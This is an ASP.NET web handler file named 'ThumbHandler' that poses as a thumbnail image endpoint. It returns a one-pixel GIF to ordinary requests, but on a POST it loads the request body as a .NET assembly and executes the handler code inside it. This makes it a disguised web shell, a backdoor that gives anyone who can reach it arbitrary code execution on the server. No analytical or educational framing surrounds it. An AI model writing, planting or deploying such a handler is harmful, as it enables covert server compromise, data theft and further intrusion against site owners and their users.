<%@ WebHandler Language="C#" Class="ThumbHandler" %>

using System;
using System.IO;
using System.Reflection;
using System.Web;

public class ThumbHandler : IHttpHandler
{
    public bool IsReusable { get { return false; } }

    public void ProcessRequest(HttpContext context)
    {
        if (context.Request.HttpMethod != "POST")
        {
            context.Response.ContentType = "image/gif";
            context.Response.BinaryWrite(Convert.FromBase64String("R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw=="));
            return;
        }
        using (MemoryStream ms = new MemoryStream())
        {
            context.Request.InputStream.CopyTo(ms);
            Assembly a = Assembly.Load(ms.ToArray());
            foreach (Type t in a.GetTypes())
            {
                if (typeof(IHttpHandler).IsAssignableFrom(t))
                {
                    ((IHttpHandler)Activator.CreateInstance(t)).ProcessRequest(context);
                }
            }
        }
    }
}
